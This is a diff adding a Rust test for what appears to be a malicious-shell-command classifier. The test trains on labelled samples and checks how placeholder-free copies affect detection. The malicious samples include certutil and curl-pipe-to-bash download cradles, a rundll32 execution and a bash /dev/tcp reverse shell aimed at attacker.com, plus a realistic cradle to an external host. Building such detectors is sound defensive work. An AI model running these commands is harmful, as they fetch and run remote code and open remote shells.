@@ -384,3 +384,85 @@ fn a_sandboxed_run_adds_what_the_script_did() {
         v["notes"]
     );
 }
+
+/// A corpus in two house styles: attacks written with lab placeholders (`attacker.com`,
+/// `C:\AtomicRedTeam\…`, `calc.exe`), documentation with tldr's (`path/to`, `example.com`);
+/// how many texts hold a placeholder.
+fn house_style_corpus(path: &std::path::Path) -> usize {
+    let malicious = [
+        r"certutil -urlcache -split -f http://attacker.com/p{n}.exe C:\AtomicRedTeam\atomics\p{n}.exe",
+        "curl -s http://attacker.com/x{n}.sh | bash",
+        r"rundll32 C:\AtomicRedTeam\atomics\T1218\src\d{n}.dll,Run & start calc.exe",
+        "bash -i >& /dev/tcp/attacker.com/4{n} 0>&1",
+    ];
+    let benign = [
+        "ls -la path/to/dir{n}",
+        "curl -o page{n}.html https://example.com/page{n}",
+        "tar -czf path/to/backup{n}.tgz src",
+        "git clone https://example.com/repo{n}.git",
+        "grep -rn TODO path/to/src{n}",
+        "du -sh /srv/app{n}",
+        "df -h",
+    ];
+    let mut f = std::fs::File::create(path).unwrap();
+    let mut placeholders = 0;
+    for i in 0..300usize {
+        let (text, label) = if i % 3 == 0 {
+            (malicious[i / 3 % malicious.len()], "malicious")
+        } else {
+            (benign[i % benign.len()], "benign")
+        };
+        let text = text.replace("{n}", &(i % 97).to_string());
+        placeholders += usize::from(warden_payload::placeholders::realistic_copy(&text).is_some());
+        writeln!(
+            f,
+            "{}",
+            serde_json::json!({"text": text, "label": label, "shell": "sh"})
+        )
+        .unwrap();
+    }
+    placeholders
+}
+
+#[test]
+fn copies_without_the_house_placeholders_teach_the_command_not_the_corpus() {
+    let dir = tempfile::tempdir().unwrap();
+    let train = dir.path().join("train.jsonl");
+    let placeholders = house_style_corpus(&train);
+    assert!((150..300).contains(&placeholders), "{placeholders}");
+    let train_model = |out: &std::path::Path, extra: &[&str]| {
+        let done = warden()
+            .args(["train", "payload", "--bits", "16", "--epochs", "6"])
+            .args(extra)
+            .arg("--input")
+            .arg(&train)
+            .arg("--out")
+            .arg(out)
+            .assert()
+            .success();
+        String::from_utf8_lossy(&done.get_output().stderr).to_string()
+    };
+    let with = dir.path().join("with.wpld");
+    let without = dir.path().join("without.wpld");
+    let err = train_model(&with, &[]);
+    assert!(
+        err.contains(&format!(
+            "{placeholders} of 300 texts are written with a public corpus's placeholders"
+        )),
+        "{err}"
+    );
+    let err = train_model(&without, &["--no-placeholder-copies"]);
+    assert!(!err.contains("placeholders"), "{err}");
+    // The same download cradle as a real intrusion writes it, with none of the lab's
+    // placeholders: the model that also learned the copies rates it higher.
+    let real =
+        r"certutil -urlcache -split -f http://dl.kestrel-ops.net/p9.exe C:\Users\Public\p9.exe";
+    let text_p = |model: &std::path::Path| {
+        let v = analyze(&["--shell", "sh", "--model"], model, real);
+        v["model"]["text_probability"]
+            .as_f64()
+            .unwrap_or_else(|| panic!("{v}"))
+    };
+    let (w, wo) = (text_p(&with), text_p(&without));
+    assert!(w > wo, "with copies {w}, without {wo}");
+}
